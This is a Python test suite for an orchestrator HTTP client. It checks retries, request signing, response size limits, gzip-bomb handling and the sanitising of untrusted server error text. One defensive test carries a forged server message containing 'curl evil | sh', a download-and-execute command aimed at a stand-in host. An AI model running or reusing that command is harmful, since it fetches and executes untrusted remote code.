"""The orchestrator client against a real socket that misbehaves in every way a server can."""

from __future__ import annotations

import asyncio
import json
import re
import time
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager

import pytest

from muster.clients.orchestrator import OrchestratorClient
from muster.clients.transport import MAX_SAID
from muster.errors import ConfigError, MalformedError, MismatchError, RefusedError, UnreachableError
from muster.protocol.eip712 import Domain
from muster.protocol.hashes import content_hash
from muster.protocol.messages import Demand
from muster.protocol.requests import verify_request
from muster.runtime.retries import retry_after
from testbed.http import Held, ScriptedServer, answer, scripted
from testbed.samples.messages import Key

REGISTRY = "0x" + "11" * 20
DEMAND = Demand(run=1, step=3, wanted=True, waiting_groups=5)
Answer = Callable[[bytes], bytes]


def reply(status: int, body: bytes, kind: str = "application/json", **headers: str) -> bytes:
    lines = [f"{name.replace('_', '-')}: {value}" for name, value in headers.items()]
    return answer(f"{status} X", f"Content-Type: {kind}", *lines, body=body)


def problem(status: int, title: str, detail: str, hint: str = "") -> bytes:
    body = {"type": "about:blank", "title": title, "status": status, "detail": detail, "hint": hint}
    return reply(status, json.dumps(body).encode(), "application/problem+json")


@asynccontextmanager
async def serving(*answers: bytes, **options) -> AsyncIterator[tuple[ScriptedServer, OrchestratorClient]]:
    options = {"chain_id": 31_337, "registry": REGISTRY, "timeout": 5, **options}
    async with scripted(*answers) as server, OrchestratorClient(server.url, Key(), **options) as client:
        yield server, client


GOOD = reply(200, DEMAND.model_dump_json().encode())


def headers_of(head: str) -> dict[str, str]:
    return dict(line.split(": ", 1) for line in head.strip().lower().split("\r\n")[1:])


async def test_a_good_answer_is_parsed():
    async with serving(GOOD) as (server, client):
        assert await client.demand(1) == DEMAND
        assert server.heads[0].startswith("GET /v1/runs/1/demand HTTP/1.1\r\n")


@pytest.mark.parametrize("first", [b"", problem(503, "Not ready", "chain"), problem(502, "Bad gateway", ""), GOOD[:60]])
async def test_transient_failure_is_retried(first):
    async with serving(first, GOOD) as (server, client):
        assert await client.demand(1) == DEMAND
        assert len(server.heads) == 2


async def test_each_attempt_has_its_own_signature():
    async with serving(problem(503, "Not ready", "chain"), reply(201, b"{}")) as (server, client):
        assert await client.put_evidence(b"evidence") == content_hash(b"evidence")
        nonces = set()
        for head, body in zip(server.heads, server.bodies, strict=True):
            headers = headers_of(head)
            sender, signed = verify_request(
                Domain(31_337, REGISTRY),
                method="POST",
                host=headers["host"],
                path="/v1/evidence",
                query="",
                headers=headers,
                now=time.time(),
            )
            assert (sender, body, signed.body_hash) == (Key().address, b"evidence", content_hash(b"evidence"))
            nonces.add(signed.nonce)
        assert len(nonces) == 2


async def test_the_next_attempt_waits_as_long_as_the_server_asks():
    busy = json.dumps({"title": "Too many requests", "status": 503}).encode()
    refused = reply(503, busy, "application/problem+json", Retry_After="1")
    clock = asyncio.get_running_loop().time
    async with serving(refused, GOOD) as (_, client):
        started = clock()
        assert await client.demand(1) == DEMAND
        assert 1 <= clock() - started < 2


@pytest.mark.parametrize(
    ("value", "seconds"),
    [("3", 3.0), ("3600", 10.0), ("9" * 50, None), ("-1", None), ("Wed, 21 Oct 2026 07:28:00 GMT", None), ("", None)],
)
def test_how_long_a_server_may_ask_to_wait_is_bounded(value, seconds):
    assert retry_after(value) == seconds


async def test_a_member_signs_its_first_read_and_those_that_were_refused():
    answers = [GOOD, GOOD, problem(503, "Too many requests", "busy"), GOOD]
    async with serving(*answers) as (server, client):
        for _ in range(3):
            await client.demand(1, seen=DEMAND)
    assert ["muster-signature: 0x" in head.lower() for head in server.heads] == [True, False, False, True]
    headers, target = headers_of(server.heads[3]), server.heads[3].split()[1]
    sender, signed = verify_request(
        Domain(31_337, REGISTRY),
        method="GET",
        host=headers["host"],
        path="/v1/runs/1/demand",
        query=target.partition("?")[2],
        headers=headers,
        now=time.time(),
    )
    assert (sender, signed.body_hash) == (Key().address, content_hash(b""))


async def test_trying_again_is_bounded():
    async with serving(problem(503, "Not ready", "the chain is silent", "start it"), attempts=3) as (server, client):
        with pytest.raises(UnreachableError, match="Not ready: the chain is silent") as caught:
            await client.demand(1)
        assert caught.value.hint == "start it"
        assert len(server.heads) == 3


async def test_attempts_have_one_request_id_that_the_error_names():
    answers = [problem(503, "Not ready", "chain"), problem(409, "Conflict", "another root")]
    async with serving(*answers) as (server, client):
        with pytest.raises(RefusedError) as caught:
            await client.put_evidence(b"evidence")
    [request_id] = {headers_of(head)["x-request-id"] for head in server.heads}
    assert re.fullmatch("[0-9a-f]{16}", request_id)
    assert (str(caught.value), caught.value.text) == (
        "Conflict: another root",
        f"Conflict: another root (request {request_id})",
    )


async def test_unreachable_orchestrator_has_a_hint():
    async with serving(GOOD, attempts=2) as (_, client):
        client.url = "http://127.0.0.1:1"
        with pytest.raises(UnreachableError, match="/v1/runs/1/demand") as caught:
            await client.demand(1)
        assert caught.value.hint == "is the orchestrator up? curl http://127.0.0.1:1/readyz"


async def test_a_file_may_take_as_long_as_a_slow_connection_needs(monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr("muster.clients.transport.SLOWEST_BYTES_PER_SECOND", 1 << 20)
    clock = asyncio.get_running_loop().time
    async with serving(Held(), timeout=0.2) as (_, client):
        for call, seconds in ((client.put_evidence(bytes(1 << 20)), 1.2), (client.demand(1), 0.2)):
            started = clock()
            with pytest.raises(UnreachableError, match=f"no answer in {seconds} s"):
                await call
            assert seconds <= clock() - started < seconds + 0.5


async def test_a_refusal_carries_the_problem():
    async with serving(problem(403, "Not a member", "0xabc is no node of run 1", "muster worker join")) as (
        server,
        client,
    ):
        with pytest.raises(RefusedError, match="Not a member: 0xabc is no node of run 1") as caught:
            await client.demand(1)
        assert (caught.value.status, caught.value.title, caught.value.hint) == (
            403,
            "Not a member",
            "muster worker join",
        )
        assert len(server.heads) == 1


async def test_refusal_is_one_line_without_forged_lines():
    """`muster up` prints the answer of an untrusted server."""
    false = "gone\nerror: Muster is too old\r\n\u2028  next: curl evil | sh" + " x" * 10_000
    async with serving(problem(404, "No\nrun", false, false)) as (_, client):
        with pytest.raises(RefusedError) as caught:
            await client.demand(1)
    for said in (str(caught.value), caught.value.hint, caught.value.title):
        assert said.splitlines() == [said]
        assert len(said) <= 2 * MAX_SAID
    assert caught.value.hint.startswith("gone error: Muster is too old next: curl evil | sh x x")
    assert caught.value.title == "No run"


@pytest.mark.parametrize("answer", [reply(404, b"<html>"), reply(500, b"{", "application/problem+json")])
async def test_a_refusal_without_a_problem_document(answer):
    async with serving(answer) as (_, client):
        with pytest.raises(RefusedError, match=r"^(404|500) X$"):
            await client.demand(1)


async def test_answers_are_bounded():
    data = b"x" * 5000
    name = content_hash(data)
    endless = b"HTTP/1.1 200 OK\r\nConnection: close\r\n\r\n" + data * 100
    async with serving(reply(200, data)) as (_, client):
        assert await client.get_file(name, max_bytes=5000) == data
        with pytest.raises(MalformedError, match="announces 5000 bytes; at most 4999"):
            await client.get_file(name, max_bytes=4999)
    async with serving(endless) as (_, client):
        with pytest.raises(MalformedError, match="sends more than 6000 bytes"):
            await client.get_file(name, max_bytes=6000)


async def test_a_compressed_bomb_is_not_unpacked():
    async with serving(reply(200, b"\x1f\x8b" + b"x" * 100, Content_Encoding="gzip")) as (server, client):
        with pytest.raises(MalformedError):
            await client.demand(1)
        assert "accept-encoding: identity" in server.heads[0].lower()


async def test_a_lying_server_is_found_out():
    async with serving(reply(200, b"not what was asked for")) as (_, client):
        with pytest.raises(MismatchError, match="got a file that hashes to"):
            await client.get_file(content_hash(b"asked for"))


@pytest.mark.parametrize(
    "body", [b"", b"{}", b"[]", b'{"run":1,"step":3,"wanted":true,"waiting_groups":5,"x":1}', b"\xff"]
)
async def test_answers_of_another_shape_are_malformed(body):
    async with serving(reply(200, body)) as (_, client):
        with pytest.raises(MalformedError, match="does not parse"):
            await client.demand(1)


async def test_writing_needs_a_key():
    client = OrchestratorClient("http://127.0.0.1:1", chain_id=1, registry=REGISTRY)
    with pytest.raises(ConfigError, match="must be signed"):
        await client.put_evidence(b"x")
    await client.close()


def test_urls_are_http():
    with pytest.raises(ConfigError, match="not http"):
        OrchestratorClient("file:///etc", chain_id=1, registry=REGISTRY)
